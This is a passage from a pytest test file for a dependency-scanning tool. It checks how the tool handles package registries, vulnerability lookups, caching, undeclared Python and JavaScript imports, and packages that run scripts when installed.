)
def test_an_audit_that_could_not_run_is_for_a_person(registry: Registry, answer: tuple[int, bytes]) -> None:
    registry.answers["/osv/v1/querybatch"] = answer
    findings = scan(registry, {}, {"requirements.txt": "fine-project==1.1\n"})
    assert rules(findings) == ["unknown"]
    assert "known vulnerabilities of fine-project 1.1 could not be looked up" in findings[0].message


# what does not answer


@pytest.mark.parametrize(
    "answer", [(500, b""), (403, b""), (200, b"{}"), (200, b"<html>"), (200, b'{"files": [{"filename": 1}]}')]
)
@pytest.mark.parametrize(
    ("path", "content", "asked"),
    [("requirements.txt", "requests\n", "/simple/requests/"), ("package.json", package(express="4"), "/npm/express")],
)
def test_a_registry_that_cannot_be_understood_is_unknown(
    registry: Registry, answer: tuple[int, bytes], path: str, content: str, asked: str
) -> None:
    registry.answers[asked] = answer
    findings = scan(registry, {}, {path: content})
    assert rules(findings) == ["unknown"] and findings[0].severity is PERSON


def test_a_project_in_quarantine_is_taken_back(registry: Registry) -> None:
    registry.pypi["idna"]["project-status"] = {"status": "quarantined"}
    assert rules(scan(registry, {}, {"requirements.txt": "idna\n"})) == ["yanked"]


def test_a_name_that_was_unpublished_is_missing(registry: Registry) -> None:
    registry.answers["/npm/express"] = (200, b'{"name": "express", "time": {"unpublished": {}}}')
    assert rules(scan(registry, {}, {"package.json": package(express="4")})) == ["missing"]


def test_services_that_nobody_listens_at_are_unknown_and_soon_not_asked_again(registry: Registry) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        nowhere = f"http://name:password@127.0.0.1:{taken.getsockname()[1]}/"
        lines = "".join(f"project-{number}\n" for number in range(60))
        findings = scan(
            registry, {}, {"requirements.txt": lines}, index_url=nowhere, npm_registry=nowhere, vulnerabilities=nowhere
        )
        doctor = block(registry, index_url=nowhere, npm_registry=nowhere, vulnerabilities=nowhere).doctor()
    assert {(f.rule, f.severity) for f in findings} == {("dependencies/unknown", PERSON)}
    assert "does not answer" in findings[0].message
    assert "does not answer" in str(doctor)
    assert "password" not in " ".join(f.message for f in findings) + str(doctor)


def test_an_answer_without_end_is_unknown(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("blocks.scanners.dependencies.registries.MAX_PAGE_BYTES", 1000)
    registry.python("requests", *(f"1.{number}" for number in range(50)))
    findings = scan(registry, {}, {"requirements.txt": "requests\n"})
    assert rules(findings) == ["unknown"] and "more than 1,000 bytes" in findings[0].message


def test_no_time_left_is_unknown(registry: Registry) -> None:
    assert rules(scan(registry, {}, {"requirements.txt": "requests\n"}, scan_timeout_s=1e-9)) == ["unknown"]


def test_an_index_that_says_neither_times_nor_links_is_unknown(registry: Registry) -> None:
    for file in registry.pypi["idna"]["files"]:
        del file["upload-time"]
    del registry.projects["idna"]
    assert rules(scan(registry, {}, {"requirements.txt": "idna\n"})) == ["unknown"]


def test_answers_are_kept_and_asked_again_when_they_are_old(registry: Registry, tmp_path: Path) -> None:
    head = {"requirements.txt": "fine-project\n"}
    first = scan(registry, {}, head)
    asked = len(registry.asked)
    registry.answers["/simple/fine-project/"] = (500, b"")
    assert scan(registry, {}, head) == first
    assert [path for path in registry.asked[asked:] if "osv" not in path] == []
    for kept in (tmp_path / "home" / "cache" / "dependencies").iterdir():
        os.utime(kept, (1, 1))
    assert rules(scan(registry, {}, head)) == ["unknown"]
    assert list((tmp_path / "home" / "cache" / "dependencies").iterdir()) == []


def test_what_is_missing_is_asked_again(registry: Registry) -> None:
    head = {"requirements.txt": "coming-soon\n"}
    assert rules(scan(registry, {}, head)) == ["missing"]
    registry.python("coming-soon", "1.0", "1.1", "1.2")
    assert rules(scan(registry, {}, head)) == []


def test_rubbish_in_the_cache_is_asked_again(registry: Registry, tmp_path: Path) -> None:
    head = {"requirements.txt": "fine-project\n"}
    first = scan(registry, {}, head)
    for kept in (tmp_path / "home" / "cache" / "dependencies").iterdir():
        kept.write_bytes(b"rubbish")
    assert scan(registry, {}, head) == first


# imports


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os, json\nfrom concurrent import futures\n", None),
        ("import requests\nfrom requests.auth import X\n", None),
        ("import attr\n", None),
        ("import app.inner\nfrom . import other\nimport conftest\n", None),
        ("import pytest\n", None),
        ("import yaml\n", "undeclared-import"),
        ("import numpy\n", "undeclared-import"),
        ("def f():\n    from made_up.thing import x\n", "undeclared-import"),
        ("import importlib\nimportlib.import_module('made_up')\n", "undeclared-import"),
        ("__import__('made_up')\n", "undeclared-import"),
        ("import made_up\ndef (\n", "undeclared-import"),
        ("import idna\n", "import-unknown"),
        ("try:\n    import orjson\nexcept ImportError:\n    orjson = None\n", "import-unknown"),
        ("from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import made_up\n", "import-unknown"),
    ],
)
def test_new_imports_in_python(registry: Registry, source: str, expected: str | None) -> None:
    base = {
        "pyproject.toml": pyproject("requests>=2", "attrs"),
        "app/__init__.py": "",
        "app/inner.py": "",
        "conftest.py": "",
        "uv.lock": uv_lock(
            ("requests", "2.32.1"),
            ("attrs", "24.1"),
            ("idna", "3.7"),
            root=("requests", "attrs"),
            requires={"requests": ("idna",)},
        ),
    }
    findings = scan(registry, base, {**base, "app/new.py": source})
    assert rules(findings) == ([expected] if expected else [])
    assert all(f.path == "app/new.py" and f.line for f in findings)
    shown = {"undeclared-import": "import-unknown"}.get(expected or "", expected)
    assert rules(scan(registry, base, {**base, "examples/show/new.py": source})) == ([shown] if shown else [])


def test_imports_that_base_has_somewhere_are_not_new(registry: Registry) -> None:
    base = {"requirements.txt": "requests\n", "old.py": "import made_up\n"}
    assert scan(registry, base, {"requirements.txt": "requests\n", "new/place.py": "import os\nimport made_up\n"}) == ()


def test_an_import_is_unknown_where_a_wheel_or_a_declaration_cannot_be_read(registry: Registry) -> None:
    head = {"requirements.txt": "requests\n", "a.py": "import made_up\n"}
    registry.answers["/files/requests-2.32.1.whl"] = (200, b"no archive")
    assert rules(scan(registry, {"requirements.txt": "requests\n"}, head)) == ["import-unknown"]
    assert rules(scan(registry, {}, {"a.py": "import made_up\n"})) == ["import-unknown"]
    computed = {"setup.py": "import setuptools\nsetuptools.setup(install_requires=open('x').read())\n"}
    assert rules(scan(registry, computed, {**computed, "a.py": "import made_up\n"})) == ["import-unknown"]


def test_declaring_it_in_the_same_change_is_enough(registry: Registry) -> None:
    base = {"pyproject.toml": pyproject("requests")}
    head = {"pyproject.toml": pyproject("requests", "numpy"), "a.py": "import numpy\n"}
    assert rules(scan(registry, base, head)) == []


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import fs from 'fs';\nimport 'node:test';\nconst a = require('./a');\nimport b from '../b.js';\n", None),
        (
            "import express from 'express';\nimport { Router } from \"express/lib\";\nimport t from '@scope/tool/x';\n",
            None,
        ),
        (
            "import type { X } from 'typed';\nimport x from '@/x';\nimport y from '#y';\nimport z from 'inner';\n",
            None,
        ),
        ("import w from '@app/web';\nimport v from 'aliased/v';\n", None),
        (
            "// import a from 'made-up'\n/* require('made-up') */\n\"import 'made-up'\"; `import('made-up')`;\n",
            None,
        ),
        ("import ms from 'ms';\n", "import-unknown"),
        ("import a, {\n  b as c,\n} from 'made-up';\n", "undeclared-import"),
        ("const x = require('made-up/deep');\n", "undeclared-import"),
        ("const x = await import('@made/up');\n", "undeclared-import"),
        ("export * from 'made-up';\n", "undeclared-import"),
        ("import 'made-up';\n", "undeclared-import"),
        ("import x from 'https://esm.example.org/x';\n", "source"),
    ],
)
def test_new_imports_in_javascript(registry: Registry, source: str, expected: str | None) -> None:
    dependencies = {"express": "^4.0.0", "@scope/tool": "^1.0.0", "@types/typed": "1"}
    base = {
        "package.json": package(**dependencies),
        "web/package.json": '{"name": "@app/web"}',
        "src/inner.ts": "",
        "tsconfig.json": '{"compilerOptions": {"baseUrl": "src", /* c */ "paths": {"aliased/*": ["x/*"],},}}',
        "package-lock.json": npm_lock(dependencies, ms=locked("ms", "2.1.3")),
    }
    findings = scan(registry, base, {**base, "src/new.ts": source})
    assert rules(findings) == ([expected] if expected else [])


# the whole


def test_every_rule_is_shown_here(request: pytest.FixtureRequest) -> None:
    text = Path(__file__).read_text()
    names = [rule.name.removeprefix("dependencies/") for rule in DEPENDENCY_RULES]
    assert [name for name in names if f'"{name}"' not in text and f"dependencies/{name}" not in text] == []


def test_a_large_repository_is_read_in_bounded_time_and_a_change_of_text_asks_nobody(registry: Registry) -> None:
    base = {f"app/part{number // 100}/module{number}.py": "import os\n" for number in range(10_000)}
    base |= {"requirements.txt": "requests\n"}
    assert scan(registry, base, {**base, "README.md": "x", "app/new.py": "import requests, app\n"}) == ()
    assert registry.asked == []


def test_it_works_and_says_its_version(registry: Registry) -> None:
    registry.python("pip", "24.0")
    registry.node("semver", "7.0.0")
    assert block(registry).doctor() is None
    assert block(registry).version()[0].isdigit()


# the real registries


def test_pypi_says_what_it_should() -> None:
    block = Dependencies(index_url="https://pypi.org/simple/", npm_registry="https://registry.npmjs.org/")
    base, head = (
        tree({"requirements.txt": ""}),
        tree({"requirements.txt": "iniconfig==2.0.0\niniconfig-lockgate-made-up==1\n"}),
    )
    findings = block.scan(base, head, ["requirements.txt"])
    assert [f.message for f in findings if f.severity is REFUSE] == ["PyPI has no package iniconfig-lockgate-made-up"]
    assert any("new from PyPI: iniconfig 2.0.0" in f.message and "of 2023-01-07" in f.message for f in findings)
    assert rules(findings, PERSON) in ([], ["unknown"])  # the vulnerability service may be out of reach


def test_npm_says_what_it_should() -> None:
    block = Dependencies(index_url="https://pypi.org/simple/", npm_registry="https://registry.npmjs.org/")
    base, head = (
        tree({"package.json": package()}),
        tree({"package.json": package(**{"is-odd": "^3.0.0", "esbuild": "0.21.5"})}),
    )
    findings = block.scan(base, head, ["package.json"])
    assert [f.message for f in findings if f.severity is REFUSE and f.rule != "dependencies/vulnerable"] == [
        "esbuild 0.21.5 runs scripts when it is installed: postinstall"
    ]
    assert any("new from npm: is-odd 3.0.1" in f.message for f in findings)
